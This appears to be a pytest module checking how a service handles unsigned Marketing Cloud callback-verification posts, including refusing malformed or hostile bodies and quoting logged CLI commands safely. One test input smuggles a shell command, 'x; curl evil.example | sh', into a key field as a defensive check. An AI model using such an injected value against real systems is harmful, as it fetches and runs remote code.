"""The unsigned post by which Marketing Cloud asks whose address a callback is: shown, and believed in nothing."""

import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import structlog
import trio

from adapters.cli import app
from adapters.feedback.handshake import Handshake, command, handshake
from tests.adapters.running import SETTINGS, Sidecar, running, write_config
from tests.simulators.base import served
from tests.simulators.salesforce import Salesforce

POSTED = {"callbackId": "65b885ab-c2b4-46fe-85d0-d6cb8be8057d", "verificationKey": "V27FXfqI3DnhfQW1bhFDeJ+z/9n=="}
MAILED = """destinations:
  cloud: {kind: salesforce_email, tenant: mc1, client_id: {env: SF_ID}, client_secret: {env: SF_SECRET}, url: "URL"MORE}
  news: {kind: klaviyo, key: {env: SF_ID}}
  kept: {kind: memory}"""


@pytest.fixture(autouse=True)
def _keys(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SF_ID", "id-1")
    monkeypatch.setenv("SF_SECRET", "secret-1")
    monkeypatch.setenv("SF_SIGNS", "key-of-the-signature")


def configure(folder: Path, url: str = "http://127.0.0.1:9", more: str = "") -> Path:
    settings = SETTINGS.replace("destinations: {kept: {kind: memory}}", MAILED)
    return write_config(folder, settings.replace("URL", url).replace("MORE", more))


async def post(sidecar: Sidecar, body: Any, name: str = "cloud") -> int:
    return (await sidecar.stranger.post(f"/feedback/{name}", content=json.dumps(body).encode())).status_code


@pytest.mark.parametrize("more", ["", ", feedback: {env: SF_SIGNS}"], ids=["before the key is known", "after"])
async def test_the_command_that_is_logged_verifies_the_callback(tmp_path: Path, more: str) -> None:
    simulator = Salesforce()
    simulator.callbacks[POSTED["callbackId"]] = POSTED["verificationKey"]
    async with served(simulator) as url:
        config = configure(tmp_path, url, more)
        async with running(tmp_path, config=config) as sidecar:
            with structlog.testing.capture_logs() as logs:
                assert await post(sidecar, POSTED) == 200
            assert simulator.asked == [], "nothing is called because of what anybody may have posted"
        (run,) = (each["run"] for each in logs if "run" in each)
        words = [*shlex.split(run)[1:], "--config", str(config)]
        assert await trio.to_thread.run_sync(lambda: app(words, result_action="return_value")) == 0
    assert simulator.callbacks == {}
    assert simulator.broken == []


async def test_what_only_looks_like_one_is_refused_as_anything_unsigned(tmp_path: Path) -> None:
    async with running(tmp_path, config=configure(tmp_path, more=", feedback: {env: SF_SIGNS}")) as sidecar:
        for body in (
            [POSTED],
            POSTED | {"more": 1},
            POSTED | {"verificationKey": "x; curl evil.example | sh"},
            POSTED | {"verificationKey": "x\n"},
            POSTED | {"callbackId": ""},
            POSTED | {"callbackId": "x" * 201},
            [{"eventCategoryType": "TransactionalSendEvents.EmailBounced", "info": {"to": "ann@shop.example"}}],
        ):
            assert await post(sidecar, body) == 401
        assert await post(sidecar, POSTED, "news") == 403
        assert await post(sidecar, POSTED, "kept") == 404
        assert sidecar.service.addresses.marks == {}


def test_a_command_says_what_was_posted_and_is_taken_apart_as_one_word_each() -> None:
    posted = handshake("salesforce_journey", json.dumps(POSTED).encode())
    assert posted == Handshake(POSTED["callbackId"], POSTED["verificationKey"])
    assert shlex.split(command("cloud", posted))[3:] == [
        "cloud",
        f"--callback={POSTED['callbackId']}",
        f"--key={POSTED['verificationKey']}",
    ]
    assert handshake("salesforce_email", b"\xff") is None


def test_only_marketing_cloud_is_verified(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    words = ["--callback=c", "--key=k", "--config", str(configure(tmp_path))]
    for name, told in (
        ("news", "nothing to verify"),
        ("clod", "did you mean `cloud`?"),
        ("cloud", "cannot be reached"),
    ):
        assert app(["destinations", "verify", name, *words], result_action="return_value") == 1
        assert told in capsys.readouterr().err
